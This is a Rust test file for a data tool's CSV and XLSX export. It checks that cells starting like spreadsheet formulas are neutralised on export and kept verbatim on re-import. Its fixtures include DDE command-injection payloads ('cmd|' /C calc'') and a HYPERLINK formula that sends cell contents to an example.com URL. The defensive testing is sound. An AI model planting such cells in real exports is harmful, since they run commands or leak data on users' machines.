//! Cells that a spreadsheet would compute: text where a spreadsheet is meant, and as
//! they are where a program is fed.

use std::fs::File;
use std::io::Read;

use crate::command_line::Place;

/// Cells that begin like a formula, the last three of which are data to be used.
const CELLS: [&str; 9] = [
    "=HYPERLINK(\"http://example.com?\"&A1)",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "＝1+1",
    "+84 90 123 45 67",
    "-7.5",
    "Huế",
];

/// How many of them a spreadsheet computes.
const COMPUTED: usize = 6;

fn place() -> Place {
    let place = Place::filled();
    let rows: Vec<String> = CELLS
        .iter()
        .enumerate()
        .map(|(at, cell)| format!("F{at},f{at}@example.com,\"x{}\"", cell.replace('"', "\"\"")))
        .collect();
    // Import trims: a letter keeps the tab, and goes by the SQL step.
    place.write("f.csv", &format!("customer_id,email,note\n{}\n", rows.join("\n")));
    let sql = "SELECT customer_id, email, substr(note, 2) AS note FROM source";
    place
        .args(&["profiles", "import", "customer", "f.csv", "--id", "customer_id", "--sql", sql])
        .ok();
    let start = ["segment", "create", "F", "--audience", "customer"];
    place.args(&[&start[..], &["--condition", "note", "exists"]].concat()).ok();
    place
}

/// The notes of all members of what was printed.
fn notes(text: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let at = reader.headers().unwrap().iter().position(|header| header == "note").unwrap();
    reader.records().map(|record| record.unwrap()[at].to_owned()).collect()
}

#[test]
fn csv_keeps_cells_as_they_are_unless_a_spreadsheet_is_meant() {
    let place = place();
    let kept = notes(&place.run("segment members F").ok().out);
    assert_eq!(kept.len(), CELLS.len());
    assert_eq!(kept, notes(&place.run("segment members F --formulas keep").ok().out));
    for line in [
        "segment members F --formulas text",
        "segment members F --formulas text --output f-text.csv",
    ] {
        let out = place.run(line).ok().out;
        let text = if out.is_empty() { place.read("f-text.csv") } else { out };
        for (at, (cell, kept)) in notes(&text).iter().zip(&kept).enumerate() {
            let expected =
                if at < COMPUTED && is_computed(kept) { format!("'{kept}") } else { kept.clone() };
            assert_eq!(*cell, expected);
        }
        let computed = notes(&text).iter().filter(|cell| is_computed(cell)).count();
        assert_eq!(computed, 0, "{text}");
    }
    assert!(kept.iter().filter(|cell| is_computed(cell)).count() >= COMPUTED - 1, "{kept:?}");
    for format in ["json", "ndjson"] {
        place
            .run(&format!("segment members F --format {format} --formulas text"))
            .error(2, "--formulas is for CSV");
    }
    place
        .run("segment members F --output f.xlsx --formulas text")
        .error(2, "--formulas is for CSV");
}

fn is_computed(cell: &str) -> bool {
    cell.starts_with(['=', '@', '＝', '\t']) || cell.starts_with(['+', '-']) && cell.contains('|')
}

/// A cell of text is never computed, so nothing needs to be changed.
#[test]
fn in_a_workbook_every_one_is_a_text() {
    let place = place();
    place.run("segment members F --output f.xlsx").ok();
    let file = File::open(place.path("f.xlsx")).unwrap();
    let mut sheet = String::new();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    for at in 0..zip.len() {
        let mut part = String::new();
        zip.by_index(at).unwrap().read_to_string(&mut part).unwrap();
        assert!(!part.contains("<f>") && !part.contains("<f ") && !part.contains("externalLink"));
        if part.contains("<sheetData") {
            sheet = part;
        }
    }
    // Whatever is neither an inline text nor a number of ours is refused.
    for cell in sheet.split("<c ").skip(1) {
        assert!(cell.contains("t=\"inlineStr\"") || cell.contains("<v>"), "{cell}");
    }
    for cell in CELLS {
        let escaped = cell.replace('&', "&amp;").replace('"', "&quot;");
        let trimmed = escaped.trim();
        let is_there = sheet.contains(&format!("<t xml:space=\"preserve\">{trimmed}</t>"))
            || sheet.contains(&format!(
                "<t xml:space=\"preserve\">{}</t>",
                cell.trim().replace('&', "&amp;")
            ));
        assert!(is_there, "{cell} in {sheet}");
    }
    // Read again it is what it was.
    let found = place.args(&["profiles", "import", "visitor", "f.xlsx", "--id", "id", "--json"]);
    assert_eq!(found.json()["rows"]["inserted"], CELLS.len());
}

/// The rejects file is fed again: it stays as the rows were.
#[test]
fn rejects_are_the_cells_as_they_were_read() {
    let place = place();
    let rows: Vec<String> =
        CELLS.iter().map(|cell| format!("\"{}\",,", cell.replace('"', "\"\""))).collect();
    place.write("tickets.csv", &format!("Ticket,Email,Mobile\n{}\n", rows.join("\n")));
    place.run("run callers --dry-run --rejects r.csv").ok();
    let text = place.read("r.csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let cells: Vec<String> = reader.records().map(|record| record.unwrap()[0].to_owned()).collect();
    assert_eq!(cells, CELLS);
    assert_eq!(place.json("run callers --dry-run --source r.csv")["rows"]["rejected"], CELLS.len());
}
